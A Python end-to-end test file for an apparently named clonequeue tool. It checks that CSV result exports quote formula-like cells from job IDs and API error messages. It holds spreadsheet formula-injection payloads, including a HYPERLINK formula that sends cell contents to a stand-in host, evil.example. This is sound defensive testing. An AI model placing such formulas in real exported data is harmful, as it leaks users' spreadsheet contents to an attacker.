"""CSV results are safe to open in a spreadsheet: formula-like cells from the input
(custom_ids) and from the API (a failure's msg) are neutralised, end to end."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from clonequeue.local.stack import SimulatorAdmin
from clonequeue.simulator.tasks import FAIL_TRIGGER
from tests.e2e.system import System

pytestmark = pytest.mark.e2e

FORMULA_MSG = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def test_formula_custom_ids_and_api_messages_are_quoted_in_the_csv_export(
    system: System, simulator: SimulatorAdmin, tmp_path: Path
) -> None:
    simulator.configure(failure_msg=FORMULA_MSG)
    rows = [
        {
            "custom_id": "=1+2",
            "clone": {"fileUrl": "https://v.example.com/f1.mp3"},
            "audios": [{"custom_id": "@SUM(A1:A9)", "contentText": "Hello"}],
        },
        {
            "custom_id": "-5",
            "clone": {"fileUrl": f"https://v.example.com/{FAIL_TRIGGER}.mp3"},
            "audios": [{"custom_id": "+cmd", "contentText": "Hi"}],
        },
    ]
    jobs = tmp_path / "jobs.jsonl"
    jobs.write_text("".join(json.dumps(r) + "\n" for r in rows))
    system.start_worker()
    cli = [sys.executable, "-m", "clonequeue"]
    env, run = system.stack.env(), {"capture_output": True, "text": True, "timeout": 90}
    submitted = subprocess.run([*cli, "submit", str(jobs), "-b", "inj"], env=env, **run)
    assert submitted.returncode == 0, submitted.stderr
    info = system.wait("inj", 60)
    assert (info.counts["completed"], info.counts["failed"]) == (1, 1)

    out = tmp_path / "results.csv"
    exported = subprocess.run(
        [*cli, "results", "inj", "--format", "csv", "-o", str(out)], env=env, **run
    )
    assert exported.returncode == 0, exported.stderr
    with out.open(newline="", encoding="utf-8") as handle:
        cells = {r["custom_id"]: r for r in csv.DictReader(handle)}
    assert set(cells) == {"'=1+2", "'-5"}
    assert cells["'=1+2"]["audio_custom_id"] == "'@SUM(A1:A9)"
    failed = cells["'-5"]
    assert failed["audio_custom_id"] == "'+cmd"
    assert failed["error_msg"] == "'" + FORMULA_MSG  # the API's msg, verbatim after the quote
    assert failed["audio_error_msg"] == f"not made: the clone failed ({FORMULA_MSG})"
    assert (failed["attempts"], failed["retries"]) == ("1", "0")  # numbers stay numbers
    no_cell_runs = [c for r in cells.values() for c in r.values() if c and c[0] in "=+-@\t\r"]
    assert no_cell_runs == []
    # JSONL stays the data itself: no quote added there
    jsonl = subprocess.run([*cli, "results", "inj"], env=env, **run).stdout
    records = {r["custom_id"]: r for r in map(json.loads, io.StringIO(jsonl))}
    assert records["-5"]["error"]["msg"] == FORMULA_MSG
